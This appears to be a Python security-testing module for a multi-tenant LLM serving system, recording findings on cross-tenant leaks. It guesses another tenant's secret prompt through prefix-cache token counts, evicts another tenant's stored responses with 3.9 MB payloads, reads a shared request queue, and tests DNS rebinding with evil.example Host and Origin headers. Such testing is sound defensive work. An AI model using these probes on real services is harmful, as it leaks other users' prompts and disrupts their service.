"""What a tenant learns of another, and takes from it: V3, V13, V17; without keys, V12."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from typing import Any

import httpx

from benchmarks.faults.cluster import ClusterSetup, live_cluster
from benchmarks.faults.findings.server import Finding, Server

SECRET = (
    "System: you serve the bank of Harbour. The vault code is 7-4-1-9 and the owner is Mr Jonathan "
    "Small. " + "It was a bright morning, and the ships lay at anchor in the bay. " * 20
)
GUESSES = {  # each by a tenant of its own: one finds its own earlier guesses
    "mallory": SECRET,
    "eve": SECRET.replace("7-4-1-9", "1-2-3-4"),
    "trudy": SECRET.replace("Jonathan Small", "William Green"),
}
NUM_EVICTING = 40
NUM_WAITING = 24
REBOUND = {"host": "evil.example:8000", "origin": "http://evil.example:8000"}


def run(server: Server) -> Iterator[Finding]:
    yield _prefix_cache(server)
    yield _stored_responses(server)
    yield _queue(server)


def _prefix_cache(server: Server) -> Finding:
    def cached(client: httpx.Client, prompt: str) -> int:
        body = {"prompt": prompt, "max_tokens": 1, "temperature": 0}
        usage = client.post("/v1/completions", json=body).json()["usage"]
        return int((usage.get("prompt_tokens_details") or {}).get("cached_tokens") or 0)

    with server.client("alice") as alice:
        cached(alice, SECRET)
        own = cached(alice, SECRET)
    found = {}
    for tenant, guess in GUESSES.items():
        with server.client(tenant) as client:
            found[tenant] = cached(client, guess)
    after = f"cached_tokens {', '.join(map(str, found.values()))} (alice herself: {own})"
    attack = "guesses of alice's prompt: right, a wrong code, a wrong owner"
    return Finding("V3", attack, after, {**found, "alice": own})


def _stored_responses(server: Server) -> Finding:
    """Answers with 3.9 MB of reasoning that the template does not render, until one is evicted."""
    large = {"type": "reasoning_text", "text": "y" * 3_900_000}
    body: dict[str, Any] = {
        "max_output_tokens": 4,
        "input": [
            {"role": "user", "content": "x"},
            {"type": "reasoning", "id": "rs_1", "summary": [], "content": [large]},
            {"role": "assistant", "content": "ok"},
            {"role": "user", "content": "x"},
        ],
    }
    statuses: dict[int, int] = {}
    with server.client("alice") as alice, server.client("mallory") as mallory:
        kept = {"input": "remember me", "max_output_tokens": 4}
        path = f"/v1/responses/{alice.post('/v1/responses', json=kept).json()['id']}"
        for _ in range(NUM_EVICTING):
            status = mallory.post("/v1/responses", json=body).status_code
            statuses[status] = statuses.get(status, 0) + 1
            if alice.get(path).status_code != 200:
                break
        answer = alice.get(path).status_code
    told = ", ".join(f"{number} times {status}" for status, number in statuses.items())
    after = f"alice's response: {answer} after {sum(statuses.values())} ({told})"
    figures = {"status": answer, "requests": sum(statuses.values())}
    return Finding("V13", "large responses push out those of another tenant", after, figures)


def _queue(server: Server) -> Finding:
    """What the queue shows while requests of alice wait."""

    def ask() -> None:
        body = {"prompt": "The sea", "max_tokens": 400, "ignore_eos": True}
        with server.client("alice") as client:
            client.post("/v1/completions", json=body)

    threads = [threading.Thread(target=ask) for _ in range(NUM_WAITING)]
    for each in threads:
        each.start()
    time.sleep(1.0)
    seen = {}
    for tenant in ("mallory", "alice", "operator"):
        with server.client(tenant) as client:
            answer = client.get("/v1/penstock/queue")
            seen[tenant] = len(answer.json()["waiting"]) if answer.status_code == 200 else 0
    for each in threads:
        each.join(120)
    after = ", ".join(f"{tenant} sees {number}" for tenant, number in seen.items())
    return Finding("V17", "/v1/penstock/queue while alice's requests wait", after, seen)


def without_keys() -> Iterator[Finding]:
    """DNS rebinding: a page whose name leads to this machine."""
    setup = ClusterSetup(num_workers=1, num_ingress=1, state="none")
    with (
        live_cluster(setup) as cluster,
        httpx.Client(base_url=cluster.http_url, timeout=60) as client,
    ):
        statuses = {
            "GET /v1/models": client.get("/v1/models", headers=REBOUND).status_code,
            "POST /v1/completions": client.post(
                "/v1/completions", json={"prompt": "a", "max_tokens": 2}, headers=REBOUND
            ).status_code,
            "GET by localhost": client.get("/v1/models").status_code,
        }
    after = ", ".join(f"{name} {status}" for name, status in statuses.items())
    yield Finding("V12", "Host and Origin evil.example, no keys, loopback", after, statuses)
